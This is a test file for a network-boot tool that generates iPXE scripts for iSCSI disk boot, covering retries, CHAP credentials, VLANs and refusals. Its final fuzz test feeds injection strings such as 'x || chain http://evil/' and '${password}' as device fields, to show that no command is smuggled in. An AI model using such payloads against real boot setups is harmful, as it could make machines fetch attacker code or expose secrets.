/**
 * Goal: whatever goes wrong on its way, a machine is told why and gets its firmware back. Method: the texts as goldens, and
 * every script run by the interpreter against a world that fails at will.
 */
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Secret } from '../base/secret.ts'
import { Interpreter, type Result } from '../ipxe/interpret.ts'
import { parse } from '../ipxe/parse.ts'
import { print } from '../ipxe/print.ts'
import { reportUrl, scriptUrl, type WebServer } from './addresses.ts'
import { diskPausesSeconds, pollPausesSeconds } from './limits.ts'
import {
  type BootScriptFacts,
  bootScript,
  diskUri,
  type HeldScriptFacts,
  heldScript,
  localScript,
  refusedScript,
  tlsScript,
} from './scripts.ts'

const mac = '52:54:00:77:00:10'
const server: WebServer = { secure: false, host: '192.168.77.1', port: 80 }
const authority = 'iqn.2026-01.internal.slipway'

const bootFacts: BootScriptFacts = {
  mac,
  image: 'debian-lab',
  bootId: 'k3x9abcd',
  portal: { address: '192.168.77.1', port: 3260 },
  storage: undefined,
  targetName: `${authority}:disk.525400770010`,
  initiatorName: `${authority}:machine.525400770010`,
  initiator: { user: 'USERUSERUSERUSER', secret: new Secret('SECRETSECRETSECR') },
  target: { user: 'TARGETTARGETTARG', secret: new Secret('PROOFPROOFPROOFP') },
  reportUrl: reportUrl(server, mac, 'k3x9abcd'),
  refetchUrl: scriptUrl(server, mac, { refetch: 1 }),
}
const heldFacts: HeldScriptFacts = {
  mac,
  uuid: '00112233-4455-6677-8899-aabbccddeeff',
  serial: 'LAB 7',
  pollCount: 0,
  pollUrl: scriptUrl(server, mac, { poll: 1 }),
}

const vlanFacts: BootScriptFacts = {
  ...bootFacts,
  portal: { address: '10.77.2.1', port: 3260 },
  storage: { vlan: 2, address: '10.77.2.101', netmask: '255.255.255.0' },
}

const golden: ReadonlyArray<[file: string, text: string]> = [
  ['boot.ipxe', print(bootScript(bootFacts))],
  [
    'boot-without-proof.ipxe',
    print(bootScript({ ...bootFacts, initiator: undefined, target: undefined, refetchUrl: undefined })),
  ],
  ['boot-on-vlan.ipxe', print(bootScript(vlanFacts))],
  ['held.ipxe', print(heldScript(heldFacts))],
  [
    'wait-for-https.ipxe',
    print(tlsScript({ mac, url: undefined, pollCount: 0, pollUrl: scriptUrl(server, mac, { poll: 1 }) })),
  ],
  [
    'go-by-https.ipxe',
    print(
      tlsScript({
        mac,
        url: scriptUrl({ ...server, secure: true, port: 443 }, mac),
        pollCount: 1,
        pollUrl: scriptUrl(server, mac, { poll: 2 }),
      }),
    ),
  ],
  ['refused.ipxe', print(refusedScript({ mac, why: 'machine' }))],
  ['local.ipxe', print(localScript(mac))],
]

test('a disk that is known to have no loader for this firmware is told before it is tried, in lines that a screen holds', () => {
  const noLoader =
    '\\EFI\\BOOT\\BOOTX64.EFI is missing: copy a loader there (grub-install --removable, or bootctl install).'
  const lines = print(bootScript({ ...bootFacts, noLoader })).split('\n')
  const first = lines.indexOf('echo Slipway: this disk has no boot loader for this firmware.')
  expect(lines.slice(first + 1, first + 3)).toEqual([
    'echo /EFI/BOOT/BOOTX64.EFI is missing: copy a loader there (grub-install --removable,',
    'echo or bootctl install).',
  ])
  expect(first).toBeLessThan(lines.findIndex((line) => line.startsWith('sanboot')))
})

test.for(golden)('%s is what it was', async ([file, text]) => {
  await expect(text).toMatchFileSnapshot(`vectors/${file}`)
  expect(print(parse(text))).toBe(text)
})

/** A machine that runs a script. `answers` are the results of its commands, in order; after the last, everything works. */
function machine(
  source: string,
  answer: (command: string, operands: readonly string[], options: ReadonlyMap<string, string>) => Result,
  firmwareVendor = 'Some Firmware Inc',
  left: ReadonlyMap<string, string> = new Map(),
) {
  const settings = new Map([
    ['uuid', '00112233-4455-6677-8899-aabbccddeeff'],
    ['serial', 'LAB 7'],
    ['smbios/0.4.0', firmwareVendor],
    ['netX/ifname', 'net0'],
    ...left,
  ])
  const interpreter = new Interpreter(parse(source), settings)
  const screen: string[] = []
  const asked: string[] = []
  let seconds = 0
  for (;;) {
    const step = interpreter.next()
    if (step.kind === 'ended') {
      return { screen, asked, seconds, how: step.how, status: step.status, settings: interpreter.settings }
    }
    const { command, operands, options } = step.effect
    if (command === 'echo') screen.push(operands.join(' '))
    else if (command === 'sleep') seconds += Number(operands[0])
    else asked.push([command, ...operands].join(' '))
    interpreter.complete(answer(command, operands, options))
  }
}

const works: Result = { status: 0 }
const next = (statuses: Iterator<number>): Result => ({ status: statuses.next().value ?? 0 })
const refusedConnection: Result = { status: 0x0f0a6039 }

describe('the boot script', () => {
  const source = print(bootScript(bootFacts))

  test('boots from the disk with the credentials of this boot', () => {
    const interpreter = new Interpreter(parse(source), new Map())
    for (let step = interpreter.next(); ; step = interpreter.next()) {
      if (step.kind === 'ended') throw new Error('it must come to the disk')
      if (step.effect.command === 'sanboot') {
        expect(step.effect.operands).toEqual([diskUri('192.168.77.1', 3260, bootFacts.targetName)])
        expect(step.effect.operands[0]).toBe(`iscsi:192.168.77.1::3260:0:${authority}:disk.525400770010`)
        break
      }
      interpreter.complete(works)
    }
    const { settings } = interpreter
    expect(settings.get('initiator-iqn')).toBe(bootFacts.initiatorName)
    expect(settings.get('username')).toBe('USERUSERUSERUSER')
    expect(settings.get('password')).toBe('SECRETSECRETSECR')
    expect(settings.get('reverse-username')).toBe('TARGETTARGETTARG')
    expect(settings.get('reverse-password')).toBe('PROOFPROOFPROOFP')
  })

  test('hands the machine back with an error when the disk does, so that UEFI tries its next boot option', () => {
    expect(machine(source, () => works)).toMatchObject({ how: 'exit', status: 1, seconds: 0 })
  })

  test('tries again with growing pauses, tells each failure, and gives up', () => {
    const run = machine(source, (command) => (command === 'sanboot' ? refusedConnection : works))
    expect(run).toMatchObject({ how: 'exit', status: 1, seconds: diskPausesSeconds.reduce((a, b) => a + b) })
    expect(run.asked.filter((line) => line.startsWith('sanboot'))).toHaveLength(diskPausesSeconds.length + 1)
    expect(run.asked.filter((line) => line.includes('step=disk-failed&error=0f0a6039'))).toHaveLength(6)
    expect(run.asked.filter((line) => line.includes('step=gave-up'))).toHaveLength(1)
    expect(run.screen.join('\n')).toContain('Does the firewall of 192.168.77.1 let TCP port 3260 through?')
  })

  test('the server that does not answer a report delays nothing but the report', () => {
    const run = machine(source, (command) =>
      command === 'sanboot' || command === 'imgfetch' ? refusedConnection : works,
    )
    expect(run).toMatchObject({ how: 'exit', status: 1 })
    expect(run.asked.filter((line) => line.startsWith('imgfree'))).toHaveLength(0)
  })

  test('works at the third try if the server was restarting', () => {
    let tries = 0
    const run = machine(source, (command) => (command === 'sanboot' && ++tries < 3 ? refusedConnection : works))
    expect(run.screen.at(-1)).toBe('Slipway: the disk handed the machine back.')
    expect(run.seconds).toBe(7)
  })

  test.for([
    0x410d613c, 0x410d618f,
  ])('a refused secret (BIOS, EFI) is not tried again: a fresh script is fetched: %i', (status) => {
    const run = machine(source, (command) => {
      if (command === 'sanboot') return { status }
      return command === 'chain' ? { status: 0, script: '#!ipxe\necho fresh\nexit 1\n' } : works
    })
    expect(run.asked.filter((line) => line.startsWith('sanboot'))).toHaveLength(1)
    expect(run.asked.at(-1)).toContain('&refetch=1')
    expect(run.screen.at(-1)).toBe('fresh')
  })

  test('under a firmware without a place for an iBFT the disk boots all the same, at once', () => {
    const answers = [{ status: 0x3c222083 }, works]
    const run = machine(source, (command) => (command === 'sanboot' ? (answers.shift() ?? refusedConnection) : works))
    expect(run.asked.filter((line) => line.startsWith('sanboot'))).toHaveLength(2)
    expect(run.screen.at(-1)).toContain('handed the machine back')
    expect(run.asked.some((line) => line.includes('disk-failed'))).toBe(false)
  })

  test('under U-Boot, which is such a firmware, it is never tried with one: a second try would start it over', () => {
    const described: boolean[] = []
    const run = machine(
      source,
      (command, _, options) => {
        if (command === 'sanboot') described.push(!options.has('no-describe'))
        return command === 'sanboot' && described.length < 2 ? refusedConnection : works
      },
      'U-Boot',
    )
    expect(described).toEqual([false, false])
    expect(run.screen.at(-1)).toContain('handed the machine back')
  })

  test.for([
    0x020d623c, 0x020d628f,
  ])('a target that cannot prove itself (BIOS, EFI) is not tried again, and the screen says why: %i', (status) => {
    const run = machine(source, (command) => (command === 'sanboot' ? { status } : works))
    expect(run.asked.filter((line) => line.startsWith('sanboot'))).toHaveLength(1)
    expect(run.screen.join('\n')).toContain('could not prove the secret of this boot')
    expect(run).toMatchObject({ how: 'exit', status: 1 })
  })

  test.for([
    0x1d852039, 0x7f22208e,
  ])('a disk that this firmware cannot boot sends people to the doctor: %i', (status) => {
    const run = machine(source, (command) => (command === 'sanboot' ? { status } : works))
    expect(run.screen.join('\n')).toContain('slipway doctor')
    expect(run.seconds).toBe(0)
  })

  test('Ctrl-C in a pause gives up', () => {
    const run = machine(source, (command) => (command === 'sanboot' || command === 'sleep' ? refusedConnection : works))
    expect(run.asked.filter((line) => line.startsWith('sanboot'))).toHaveLength(1)
    expect(run).toMatchObject({ how: 'exit', status: 1 })
  })

  test('no secret is in an address, or on the screen', () => {
    const run = machine(source, (command) => (command === 'sanboot' ? refusedConnection : works))
    expect(`${run.asked.join('\n')}${run.screen.join('\n')}`).not.toMatch(/SECRETSECRET|PROOFPROOF/)
  })

  test('credentials that a script before left behind are cleared', () => {
    const open = print(bootScript({ ...bootFacts, initiator: undefined, target: undefined }))
    for (const name of ['username', 'password', 'reverse-username', 'reverse-password']) {
      expect(open).toContain(`clear ${name} ||`)
    }
  })
})

describe('the boot script of a disk on a VLAN', () => {
  const source = print(bootScript(vlanFacts))

  test('joins it with an address of its own before it connects', () => {
    const run = machine(source, () => works)
    expect(run.asked.slice(0, 3)).toEqual([
      'vcreate net0',
      'ifopen net0-2',
      `sanboot iscsi:10.77.2.1::3260:0:${authority}:disk.525400770010`,
    ])
    expect(run.settings.get('net0-2/ip')).toBe('10.77.2.101')
    expect(run.settings.get('net0-2/netmask')).toBe('255.255.255.0')
    expect(run.screen).toContain('Slipway: the disk is on VLAN 2, this machine is 10.77.2.101 there')
  })

  test('run again, it takes the card that it took before, and not the VLAN on it', () => {
    const before = machine(source, () => works).settings
    const left = new Map([...before, ['netX/ifname', 'net0-2']])
    expect(machine(source, () => works, undefined, left).asked.slice(0, 2)).toEqual(['vcreate net0', 'ifopen net0-2'])
  })

  test.for([
    'vcreate',
    'ifopen',
  ])('where %s fails the screen says what is missing, and nothing is asked of the disk', (fails) => {
    const run = machine(source, (command) => (command === fails ? { status: 0x2e000000 } : works))
    expect(run.asked.some((line) => line.startsWith('sanboot'))).toBe(false)
    expect(run.screen.join('\n')).toContain('VLAN 2, which this iPXE could not join')
    expect(run).toMatchObject({ how: 'exit', status: 1 })
  })
})

describe('the held script', () => {
  test('says what to type, and asks again with the next count', () => {
    const run = machine(print(heldScript(heldFacts)), (command) =>
      command === 'chain' ? { status: 0, script: print(bootScript(bootFacts)) } : works,
    )
    expect(run.screen).toContain('To let it in, type on the server: slipway admit 52:54:00:77:00:10')
    expect(run.screen).toContain('UUID 00112233-4455-6677-8899-aabbccddeeff')
    expect(run.screen).toContain('Serial number LAB 7')
    expect(run.asked[0]).toBe(
      'chain http://192.168.77.1/boot/52-54-00-77-00-10.ipxe?uuid=00112233-4455-6677-8899-aabbccddeeff&serial=LAB%207&poll=1',
    )
    expect(run.screen.at(-1)).toBe('Slipway: the disk handed the machine back.')
  })

  test('says it once, then quietly, then again', () => {
    const notice = (pollCount: number): boolean =>
      print(heldScript({ ...heldFacts, pollCount })).includes('slipway admit')
    expect([0, 1, 11, 12, 13].map(notice)).toEqual([true, false, false, true, false])
  })

  test('outlives a restart of the server, and gives up on one that is gone', () => {
    const run = machine(print(heldScript(heldFacts)), (command) => (command === 'chain' ? refusedConnection : works))
    expect(run.asked).toHaveLength(pollPausesSeconds.length + 1)
    expect(run).toMatchObject({ how: 'exit', status: 1 })
    expect(run.seconds).toBe(3 + pollPausesSeconds.reduce((a, b) => a + b))
  })

  test('Ctrl-C goes on with the firmware', () => {
    const run = machine(print(heldScript(heldFacts)), (command) => (command === 'sleep' ? refusedConnection : works))
    expect(run.asked).toEqual([])
    expect(run).toMatchObject({ how: 'exit', status: 1 })
  })
})

test.for([
  'machine',
  'needsTls',
  'needsIscsi',
  'needsVlan',
  'noAddress',
  'noDisk',
] as const)('a refusal says what and why, and ends: %s', (why) => {
  const run = machine(print(refusedScript({ mac, why })), () => works)
  expect(run).toMatchObject({ how: 'exit', status: 1, asked: [] })
  expect(run.screen.join(' ')).toContain(mac)
})

test('whatever fails, each script ends in exit, and its pauses are bounded', () => {
  const scripts = golden.map(([, text]) => text)
  fc.assert(
    fc.property(
      fc.constantFrom(...scripts),
      fc.infiniteStream(fc.constantFrom(0, 0, 1, 0x410d618f, 0x020d628f)),
      (source, statuses) => {
        let count = 0
        const run = machine(source, (command) => (command === 'echo' || ++count > 400 ? works : next(statuses)))
        expect(run.how).toBe('exit')
        expect(run.status).toBe(1)
        expect(run.seconds).toBeLessThanOrEqual(20 * 60)
      },
    ),
    { numRuns: 500 },
  )
})

test('what a script says fits on a screen of 80 columns', () => {
  const texts = [
    ...golden.map(([, text]) => text),
    ...(['needsTls', 'needsIscsi', 'noDisk'] as const).map((why) => print(refusedScript({ mac, why }))),
  ]
  const said = texts.flatMap((text) => text.split('\n').filter((line) => line.startsWith('echo ')))
  for (const line of said)
    expect(line.replaceAll(/\$\{[a-z-]+\}/g, '12345678').length, line).toBeLessThanOrEqual('echo '.length + 79)
})

const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom('x || chain http://evil/', '${password}', '\nsanboot http://evil/', '# ', '\\', '-n'),
)

test('nothing that a machine says of itself becomes a command, or names another machine', () => {
  fc.assert(
    fc.property(hostileText, hostileText, hostileText, (uuid, serial, image) => {
      const held = parse(print(heldScript({ ...heldFacts, uuid, serial })))
      const plainHeld = parse(print(heldScript(heldFacts)))
      const boot = parse(print(bootScript({ ...bootFacts, image })))
      const commandsOf = (script: typeof held): string[] =>
        script.flatMap((line) =>
          line.kind === 'commands'
            ? line.links.flatMap(
                ({ command }) => command[0]?.map((part) => (part.kind === 'text' ? part.text : '?')) ?? [],
              )
            : [],
        )
      expect(commandsOf(held)).toEqual(commandsOf(plainHeld))
      expect(commandsOf(boot)).toEqual(commandsOf(parse(print(bootScript(bootFacts)))))
      for (const line of print(held).split('\n')) {
        if (/^(chain|imgfetch|sanboot)/.test(line))
          expect(line).toContain('http://192.168.77.1/boot/52-54-00-77-00-10.ipxe')
      }
    }),
    { numRuns: 500 },
  )
})
